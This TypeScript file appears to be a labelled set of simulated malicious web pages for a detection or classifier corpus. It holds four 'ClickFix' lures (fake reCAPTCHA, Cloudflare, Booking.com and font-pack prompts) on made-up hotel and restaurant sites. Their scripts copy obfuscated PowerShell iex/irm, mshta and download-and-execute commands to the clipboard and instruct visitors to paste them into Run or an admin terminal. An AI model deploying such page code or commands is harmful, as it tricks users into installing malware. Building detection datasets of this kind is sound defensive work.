import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-clickfix-trattoria-robot',
  label: 'clickfix',
  kind: 'clickfix-hacked-site',
  url: 'https://www.trattorialagrotta-firenze.it/menu/',
  body: doc({
    lang: 'it',
    title: 'Menù | Trattoria La Grotta - Firenze',
    css: `body{margin:0;font-family:'Playfair Display',Georgia,serif;background:#fdf6ec;color:#3a2a1a}.h{padding:24px;text-align:center;border-bottom:1px solid #e5d6c0}.h h1{margin:0;font-size:34px}.m{max-width:700px;margin:20px auto;padding:0 16px}.m li{display:flex;justify-content:space-between;border-bottom:1px dotted #c9b79c;padding:6px 0}`,
    body: `<div class="h"><h1>Trattoria La Grotta</h1><p>Cucina toscana dal 1972 · Via dei Neri, Firenze</p></div>
<div class="m"><h2>Primi</h2><ul><li><span>Pappardelle al cinghiale</span><span>€ 14</span></li><li><span>Ribollita</span><span>€ 10</span></li><li><span>Pici all'aglione</span><span>€ 12</span></li></ul>
<h2>Secondi</h2><ul><li><span>Bistecca alla fiorentina (al kg)</span><span>€ 55</span></li><li><span>Peposo dell'Impruneta</span><span>€ 18</span></li></ul>
<p>Prenotazioni: 055 ${digits('grotta-tel', 6)}</p></div>
<script src="/wp-content/plugins/wp-booking-calendar/js/calendar.min.js?v=4.2.1"></script>`,
  }),
  routes: {
    'www.trattorialagrotta-firenze.it/wp-content/plugins/wp-booking-calendar/js/calendar.min.js': jsRoute(`(function(){
if(localStorage.getItem('vr_ok'))return;
var cmd='powershell -w h -nop -c "$u=\\'https://cdn-verifica.'+'click/${hex('cf-trat', 6)}\\';iex (irm $u)" # ✅ Non sono un robot - ID verifica: ${digits('cf-trat-id', 6)}';
var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:rgba(0,0,0,.55);z-index:99999;display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial,sans-serif';
o.innerHTML='<div style="background:#fff;width:420px;border-radius:6px;box-shadow:0 4px 20px rgba(0,0,0,.3)"><div style="padding:20px;display:flex;align-items:center;gap:14px;border-bottom:1px solid #eee"><input type="checkbox" id="rc" style="width:26px;height:26px"><label for="rc" style="font-size:15px">Non sono un robot</label><span style="margin-left:auto;font-size:10px;color:#555;text-align:center">reCAPTCHA<br>Privacy - Termini</span></div><div id="st" style="display:none;padding:18px;font-size:14px;line-height:1.6"><b>Verifica aggiuntiva richiesta</b><br>Per completare la verifica:<br>1. Premi <b>Windows + R</b><br>2. Premi <b>CTRL + V</b><br>3. Premi <b>Invio</b><br><small style="color:#777">Questo passaggio conferma che sei un utente reale.</small><br><button id="vb" style="margin-top:10px;background:#1a73e8;color:#fff;border:0;padding:8px 18px;border-radius:4px">Verifica</button></div></div>';
function show(){document.body.appendChild(o);document.getElementById('rc').addEventListener('click',function(){try{navigator.clipboard.writeText(cmd)}catch(e){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()}document.getElementById('st').style.display='block'});document.getElementById('vb').onclick=function(){localStorage.setItem('vr_ok','1');o.remove()}}
if(document.body)show();else document.addEventListener('DOMContentLoaded',show);
})();`),
  },
},
{
  id: 'yg-clickfix-hotel-cloudflare-mshta',
  label: 'clickfix',
  kind: 'clickfix-hacked-site',
  url: 'https://www.hotelzeezicht-zandvoort.nl/kamers',
  body: `<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Just a moment...</title>
<style>body{margin:0;font-family:system-ui,-apple-system,'Segoe UI',Roboto,sans-serif;background:#fff;color:#313131}.m{max-width:640px;margin:90px auto;padding:0 20px}.m h1{font-size:30px;font-weight:500}.box{border:1px solid #e0e0e0;background:#fafafa;padding:16px;display:flex;align-items:center;gap:12px;width:300px;border-radius:4px}.box input{width:24px;height:24px}.ins{display:none;margin-top:18px;border-left:3px solid #f38020;padding:10px 16px;background:#fff8f2;line-height:1.8}.ft{margin-top:60px;font-size:12px;color:#888;border-top:1px solid #eee;padding-top:10px}kbd{border:1px solid #bbb;border-radius:3px;padding:1px 6px;background:#fff}</style></head><body>
<div class="m"><h1>www.hotelzeezicht-zandvoort.nl</h1><p>Verifieer dat u een mens bent om verder te gaan.</p>
<div class="box"><input type="checkbox" id="cb"><label for="cb">Verifieer dat u een mens bent</label></div>
<div class="ins" id="ins">Verificatiestappen:<br>1. Druk op <kbd>⊞ Win</kbd> + <kbd>R</kbd><br>2. Druk in het venster op <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Druk op <kbd>Enter</kbd> om te bevestigen</div>
<p>www.hotelzeezicht-zandvoort.nl moet de beveiliging van uw verbinding controleren voordat u verder kunt gaan.</p>
<div class="ft">Ray ID: <code>${hex('cf-ray', 16)}</code> · Prestaties en beveiliging door Cloudflare</div></div>
<script>
var _p=[104,116,116,112,115,58,47,47,122,101,101,122,105,99,104,116,45,99,100,110,46,115,104,111,112,47,118,46,104,116,97];
var u=String.fromCharCode.apply(null,_p);
var c='mshta '+u+' # I am not a robot - reCAPTCHA Verification ID: ${digits('cf-hz', 4)}';
document.getElementById('cb').addEventListener('change',function(){navigator.clipboard.writeText(c).then(function(){document.getElementById('ins').style.display='block'},function(){document.getElementById('ins').style.display='block'})});
</script></body></html>`,
},
{
  id: 'yg-clickfix-gozo-guesthouse-booking',
  label: 'clickfix',
  kind: 'clickfix-booking-lure',
  url: 'https://admin-booking.extranet-guest-msg.com/hotel/hoteladmin/extranet_ng/manage/messaging/?hotel_id=' + digits('gozo-hid', 7),
  body: doc({
    lang: 'en',
    title: 'Booking.com | Partner Hub',
    css: `body{margin:0;font-family:-apple-system,'Segoe UI',Arial,sans-serif;background:#f5f5f5}.h{background:#003580;color:#fff;padding:12px 24px;font-weight:700;font-size:20px}.m{max-width:560px;margin:50px auto;background:#fff;border-radius:8px;padding:26px;box-shadow:0 2px 8px rgba(0,0,0,.1)}.cap{display:flex;align-items:center;gap:12px;border:1px solid #d3d3d3;border-radius:4px;padding:14px;width:290px;background:#f9f9f9}.steps{display:none;margin-top:16px;background:#eef4fb;border-radius:6px;padding:14px;line-height:1.8}`,
    body: `<div class="h">Booking.com <small style="font-weight:400">Partner Hub</small></div>
<div class="m"><h2>Guest message: complaint about your property</h2><p>A guest of <b>Ta' Pinu Guesthouse, Għarb</b> reported an issue with their reservation (#${digits('gozo-res', 10)}). To view the message and the guest's photos, please complete the security check.</p>
<div class="cap"><input type="checkbox" id="ck" style="width:24px;height:24px"><span>I'm not a robot</span></div>
<div class="steps" id="sp"><b>Complete verification:</b><br>1. Press <b>Windows Key + R</b><br>2. Press <b>CTRL + V</b> to paste the verification code<br>3. Press <b>Enter</b></div></div>
<script>
var a=[${((s: string) => [s.slice(0, 40), s.slice(40, 80), s.slice(80)].map((x) => `'${x}'`).join(','))(b64('powershell -NoP -W Hidden -C "$r=irm https://booking-guest-msg.com/api/status;iex $r"'))}];
document.getElementById('ck').onclick=function(){var s=atob(a.join(''));var t=document.createElement('textarea');t.value=s+'  # Verification ID: ${digits('gozo-v', 6)}';t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('sp').style.display='block'};
</script>`,
  }),
},
{
  id: 'yg-clickfix-b-and-b-font-ontbreekt',
  label: 'clickfix',
  kind: 'clickfix-hacked-site',
  url: 'https://www.agriturismo-ilpoggio-siena.it/camere.html',
  body: doc({
    lang: 'it',
    title: 'Agriturismo Il Poggio - Camere',
    css: `body{margin:0;font-family:Lato,Arial,sans-serif;color:#444}.h{padding:20px;text-align:center;font-size:28px;font-family:Georgia,serif}.gar{font-family:'Wingdings';color:#999;max-width:700px;margin:auto;padding:16px;line-height:1.6}`,
    body: `<div class="h">Agriturismo Il Poggio</div>
<div class="gar">ᚠᛁᛚᚢ ᛗᛁᚾᛟ ᚷᚱᚾᛟ ᛊᚨ ᚱᚢᚾᛖ ᛏᚨᛒᛚᛖ ᛊᛏᚱᛟᛖᚲ ᛋᛟᚾᚷᛁ ᚠᛟᛏᛁ ᚹᛟᚱᛞ ᚢᛊᛖᚱ ᛖᚱᚢᚾᛞᛟ ᛞᛖᚾᛁᛗ ᚠᛁᛚᚢ ᛗᛁᚾᛟ ᚷᚱᚾᛟ</div>
<div id="fx" style="position:fixed;top:60px;left:50%;transform:translateX(-50%);width:480px;background:#fff;border:1px solid #ccc;box-shadow:0 6px 30px rgba(0,0,0,.3);font-family:Segoe UI,Arial,sans-serif;padding:18px">
<b style="color:#c00">Carattere "HoeflerText" non trovato</b><p style="font-size:14px">La pagina web che stai visitando usa un carattere che non è installato sul tuo computer. Per visualizzare il testo correttamente è necessario aggiornare il "Chrome Font Pack".</p>
<button id="fix" style="background:#1a73e8;color:#fff;border:0;padding:8px 20px">Correggi</button>
<div id="how" style="display:none;font-size:14px;margin-top:10px">Come installare:<br>1. Fai clic con il tasto destro sul pulsante Start e scegli <b>Terminale (Admin)</b><br>2. Incolla con <b>Ctrl+V</b> e premi Invio</div></div>
<script>
document.getElementById('fix').onclick=function(){var s='$d="$env:TEMP\\\\fontpack";New-Item $d -ItemType Directory -Force|Out-Null;Invoke-WebRequest "https://fontpack-update.online/chrome_font_pack.zip" -OutFile "$d\\\\fp.zip";Expand-Archive "$d\\\\fp.zip" $d -Force;Start-Process "$d\\\\FontInstaller.exe"';navigator.clipboard.writeText(s).finally(function(){document.getElementById('how').style.display='block'})};
</script>`,
  }),
},
];
